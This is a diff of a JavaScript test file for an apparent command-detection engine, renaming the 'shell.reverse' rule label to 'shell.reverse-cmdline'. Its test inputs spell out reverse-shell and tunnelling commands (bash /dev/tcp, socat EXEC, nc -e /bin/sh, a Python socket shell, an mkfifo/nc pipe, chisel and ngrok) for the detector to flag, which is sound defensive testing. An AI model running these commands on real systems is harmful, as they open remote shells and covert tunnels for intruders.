@@ -140,14 +140,14 @@ test('tunnel.ssh-forward: -R/-L/-D/-J, combined flags, -o forwards, odd ports, a
   );
 });
 
-test('tunnel.tool and shell.reverse', () => {
+test('tunnel.tool and shell.reverse-cmdline', () => {
   assert.deepEqual(fire(exec(['socat', 'TCP:10.0.0.1:4444', 'EXEC:/bin/bash,pty,stderr,setsid'])), ['tunnel.tool']);
   assert.deepEqual(fire(exec(['ncat', '127.0.0.1', '4444', '-e', '/bin/sh'])), ['tunnel.tool']);
   assert.deepEqual(fire(exec(['nc', '-lvnpe', '/bin/sh', '4444'])), ['tunnel.tool']);
   assert.deepEqual(fire(exec(['chisel', 'client', '1.2.3.4:8000', 'R:socks'])), ['tunnel.tool']);
   assert.deepEqual(fire(exec(['cloudflared', 'tunnel', '--url', 'http://localhost:8888'])), ['tunnel.tool']);
   assert.deepEqual(fire(exec(['ngrok', 'tcp', '22'])), ['tunnel.tool']);
-  assert.deepEqual(fire(exec(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'])), ['shell.reverse']);
+  assert.deepEqual(fire(exec(['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'])), ['shell.reverse-cmdline']);
   assert.deepEqual(
     fire(
       exec([
@@ -156,10 +156,10 @@ test('tunnel.tool and shell.reverse', () => {
         'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0)',
       ]),
     ),
-    ['shell.reverse'],
+    ['shell.reverse-cmdline'],
   );
   assert.deepEqual(fire(exec(['sh', '-c', 'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f'])), [
-    'shell.reverse',
+    'shell.reverse-cmdline',
   ]);
   assert.deepEqual(
     fire(
